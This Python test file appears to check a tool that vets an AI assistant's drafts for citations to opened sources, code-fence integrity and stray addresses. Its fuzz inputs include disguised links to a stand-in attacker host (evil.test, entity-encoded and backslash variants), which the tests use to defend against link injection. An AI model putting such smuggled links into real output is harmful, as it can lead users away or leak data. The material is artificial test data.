def test_a_long_draft_with_long_sources_comes_to_an_end() -> None:
    text = "A price is named here, and a weight of 200 grams. " * 400
    passages = tuple(Passage(address=f"p{i}", title="P", where="all", text=text) for i in range(6))
    draft = "\n\n".join(f"The price is {i} and the weight is 200 [1][2][3]." for i in range(1_200))
    intent = understood(1, Intent(mode="research", goal="g"))
    first = (asked(approval="off"), *done(Recalled(step="recall.1")), *intent, *replied(1, call("1.1")))
    run = run_of(*first, *made("1.1", result=Result(passages=passages)), *replied(2, text=draft))
    answer = check(run, "check.1").answer
    assert len(answer.unconfirmed) > 1_000  # 200 is the only number that the sources give
    assert [one.grade for one in answer.statements] == ["supported"]


# --- whatever the draft -------------------------------------------------------------------------------------------

_bits = st.sampled_from(
    [
        *(
            "a claim",
            "It costs 129",
            "red?",
            "so:",
            " ",
            "\n",
            "\n\n",
            "  ",
            "    ",
            "- ",
            "1. ",
            "> ",
            "# ",
            "| ",
            " |",
        ),
        *(
            "|---|\n",
            "[2]",
            "[3]",
            "[2, 9]",
            "[1]",
            "[9]",
            "[",
            "]",
            "(",
            ")",
            "![",
            "](",
            "[r]",
            "[r]: ",
            "```\n",
            "`",
        ),
        *(
            "~~~",
            "\\",
            "&#104;ttps://evil.test",
            "https://evil.test/x",
            "https:\\//evil.test",
            "https://price.test/reader",
        ),
        *("<", ">", "</p>", "<br>", "\r", "【2】", "[^1]", "**", "```verdicts\n"),
    ]
)
_ours = st.sampled_from(
    ["https://ours.test/a", "https://ours.test/猫", "<https://ours.test/a", "[w](https://ours.test/a)", "を", "。",
     "[1]", "secret", "mailto:", "<a@b.test>", "[x](mailto:a@b.test)", "|w>", "[A]: b\n", "&amp;b", '"',
     "^", "{", "?q=1"]
)  # fmt: skip
_notations = st.sampled_from(
    [
        "【9†source】",
        "[Source 2]",
        "[cite: 2, 9]",
        "\n[^1]: words",
        "<sup>9</sup>",
        "[2](x)",
        "\ue200",
        "turn0search1",
    ]
)
_drafts = st.lists(_bits | _notations, max_size=22).map("".join)


@settings(max_examples=200)
@given(st.lists(_bits | _ours, max_size=22).map("".join))
def test_whatever_is_said_in_small_talk_nothing_leads_to_an_address_that_nobody_wrote(draft: str) -> None:
    """Also for a reader that takes everything up to the next space for a part of an address."""
    text = looked_at(draft, CHAT, text=OURS).answer.text
    known = {canonical_address(one) for one in (*OURS.split(), "https://ours.test/", "https://price.test/reader")}
    assert {one for one in greedy(text) if canonical_address(one) not in known} == set()
    assert bool(text) == (not shows_nothing(draft))


def outside_code(text: str) -> str:
    return blanked(text, code(text, areas(text), indented=True))


def greedy(text: str) -> list[str]:
    tokens = MarkdownIt("commonmark", {"html": False}).enable("table").parse(text)
    inner = [child for token in tokens for child in token.children or []]
    assert not any(one.type == "image" for one in inner)
    links = [str(one.attrs["href"]) for one in inner if one.type == "link_open"]
    found = [
        one
        for child in inner
        for one in re.findall(r"https?://[^\s<>|^{}]+", child.content)
        if child.type == "text"  # which are in no address
    ]
    return [unquote(one).rstrip(").,*]`|~\"'") for one in (*links, *found)]


@settings(max_examples=200)
@given(_drafts)
def test_whatever_the_draft_only_opened_sources_are_cited_and_nothing_leads_away(draft: str) -> None:
    """Marks in the shown text name opened sources, no address survives outside code, and every statement that is
    counted as carried names an opened source whose words it shows."""
    found = looked_at(draft)
    assert {number for mark in marks(outside_code(found.answer.text)) for number in mark.numbers} <= {2, 3}
    assert leads_away(found.answer.text) == []
    for statement in found.answer.statements:
        assert statement.numbers
        assert set(statement.numbers) <= {2, 3}
        assert all(piece in PRICE + SCREEN for piece in statement.excerpt.split(" … "))
    assert bool(found.answer.statements) == (not found.answer.unanswered)
    assert looked_at(draft) == found


_in_code = st.sampled_from(
    [
        *(
            "x",
            "[9]",
            "[1]",
            "【2†s】",
            "[^1]",
            "[^1]: y",
            "¹",
            "<sup>2</sup>",
            " ",
            "  ",
            "\n",
            "`",
            "https://e.test",
        ),
        *("turn0search0", "[cite: 2]", "| a |", "&#104;", "\\", "](z)", "> ", "- "),
    ]
)
_code = st.lists(_in_code, max_size=9).map("".join)


@settings(max_examples=50)
@given(st.lists(_code, min_size=1, max_size=3), st.sampled_from(["```", "~~~~", "````js"]))
def test_code_is_never_changed_by_a_byte(code: list[str], sign: str) -> None:
    """Whatever stands in a fence is shown as it is, in order."""
    fences = [f"{sign}\n{one}\n{sign.rstrip('js')}" for one in code if one.strip("`~ \n")]
    text = shown("\n\n".join(["It costs 129 [2]:", *fences, "It is waterproof [3]."]))
    assert text == "\n\n".join(["It costs 129 [2]:", *fences, "It is waterproof [3]."])


@settings(max_examples=80)
@given(st.lists(st.tuples(st.sampled_from(["", "- ", "1. ", "> ", "### "]), st.booleans()), min_size=1, max_size=8))
def test_removing_what_is_not_carried_loses_no_carried_block(blocks: list[tuple[str, bool]]) -> None:
    """Whatever stands around it, a block with an opened source is shown whole, and the others are set apart."""
    blocks = [
        (sign, cited and sign != "### ") for sign, cited in blocks
    ]  # the marks of a heading are for what follows
    lines = [f"{sign}Word{i} is said{' [2]' if cited else ''}." for i, (sign, cited) in enumerate(blocks)]
    page = "\n".join(f"Word{i} is said." for i in range(len(blocks)))
    found = looked_at("\n\n".join(lines), page=page).answer
    claims = [(line, cited) for line, (sign, cited) in zip(lines, blocks, strict=True) if sign != "### "]
    assert all(line in found.text for line, cited in claims if cited)
    assert all(line not in found.text for line, cited in claims if not cited)
    lost = sum(not cited for _, cited in claims)
    assert len(found.unconfirmed) == (lost if claims else 1), "headings alone are not confirmed"
    assert len(found.statements) == sum(cited for _, cited in claims)


# --- examined once more -------------------------------------------------------------------------------------------


@settings(max_examples=100)
@given(_drafts, st.booleans())
def test_what_is_shown_says_the_same_when_it_is_examined_once_more(draft: str, chat: bool) -> None:
    first = (looked_at(draft, CHAT) if chat else looked_at(draft)).answer.text
    assert (looked_at(first, CHAT) if chat else looked_at(first)).answer.text in (first, "(address left out)")


def test_a_lead_in_to_code_that_names_its_source_is_an_answer() -> None:
    text = "The query is this [2]:\n\n```sql\nselect 1\n```"
    assert looked_at(text).answer.text == text and looked_at(text).faults == ()


def test_a_line_of_sources_between_statements_takes_nothing_with_it() -> None:
    found = looked_at("The reader costs 129 euros [2].\n\nSources: [2]\n\nIt weighs 200 grams [2].\n\n[2]")
    assert found.answer.text == "The reader costs 129 euros [2].\n\nIt weighs 200 grams [2]."
    assert [one.text for one in found.answer.statements] == ["The reader costs 129 euros.", "It weighs 200 grams."]
    assert found.faults == ()


@pytest.mark.parametrize(
    "written", ["[2]", "[^1]", "【1†s】", "a\n\n", "1. a\n", "=\n", "Sources: [2]\n\n", "[2]\n\n", "# a 1\n"]
)
def test_the_same_over_and_over_comes_to_an_end_and_takes_nothing_along(written: str) -> None:
    text = shown("The reader costs 129 euros [2].\n\n" + written * (LONGEST_DRAFT // len(written)))
    assert text.startswith("The reader costs 129 euros [2].")
